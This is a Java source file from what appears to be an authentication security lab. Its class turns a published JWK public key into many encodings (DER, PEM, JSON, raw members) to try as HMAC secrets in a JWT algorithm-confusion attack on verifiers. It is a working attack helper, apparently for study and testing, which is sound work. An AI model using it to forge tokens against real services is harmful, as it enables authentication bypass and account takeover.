package authlab.lab.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.JsonNode;
import java.math.BigInteger;
import java.security.AlgorithmParameters;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.PublicKey;
import java.security.spec.ECGenParameterSpec;
import java.security.spec.ECParameterSpec;
import java.security.spec.ECPoint;
import java.security.spec.ECPublicKeySpec;
import java.security.spec.RSAPublicKeySpec;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/** The bytes of a published key that a confused verifier could take for an HMAC secret. */
final class PublicKeyAsSecret {

    /** Before the 32 bytes of an Ed25519 key in its DER form (RFC 8410 §4). */
    private static final byte[] ED25519_DER = Base64.getDecoder().decode("MCowBQYDK2VwAyEA");

    private PublicKeyAsSecret() {}

    /** DER, PEM, JWK and single members. */
    static List<byte[]> encodings(JsonNode jwk) {
        List<byte[]> secrets = new ArrayList<>();
        for (String member : List.of("n", "x", "y", "e")) {
            if (jwk.has(member)) {
                secrets.add(Base64.getUrlDecoder().decode(jwk.path(member).asText()));
                secrets.add(jwk.path(member).asText().getBytes(UTF_8));
            }
        }
        secrets.add(jwk.toString().getBytes(UTF_8));
        byte[] der = der(jwk);
        secrets.add(der);
        for (String end : List.of("\n", "\r\n")) {
            String pem = "-----BEGIN PUBLIC KEY-----" + end
                    + Base64.getMimeEncoder(64, end.getBytes(UTF_8)).encodeToString(der) + end
                    + "-----END PUBLIC KEY-----";
            secrets.add(pem.getBytes(UTF_8));
            secrets.add((pem + end).getBytes(UTF_8));
        }
        secrets.add(Base64.getEncoder().encodeToString(der).getBytes(UTF_8));
        return secrets;
    }

    private static byte[] der(JsonNode jwk) {
        try {
            return switch (jwk.path("kty").asText()) {
                case "RSA" -> rsa(jwk).getEncoded();
                case "EC" -> ec(jwk).getEncoded();
                default ->
                    joined(
                            ED25519_DER,
                            Base64.getUrlDecoder().decode(jwk.path("x").asText()));
            };
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static PublicKey rsa(JsonNode jwk) throws GeneralSecurityException {
        return KeyFactory.getInstance("RSA").generatePublic(new RSAPublicKeySpec(number(jwk, "n"), number(jwk, "e")));
    }

    static PublicKey ec(JsonNode jwk) throws GeneralSecurityException {
        AlgorithmParameters curve = AlgorithmParameters.getInstance("EC");
        curve.init(new ECGenParameterSpec("secp256r1"));
        return KeyFactory.getInstance("EC")
                .generatePublic(new ECPublicKeySpec(
                        new ECPoint(number(jwk, "x"), number(jwk, "y")),
                        curve.getParameterSpec(ECParameterSpec.class)));
    }

    private static BigInteger number(JsonNode jwk, String member) {
        return new BigInteger(1, Base64.getUrlDecoder().decode(jwk.path(member).asText()));
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] all = java.util.Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, all, first.length, second.length);
        return all;
    }
}
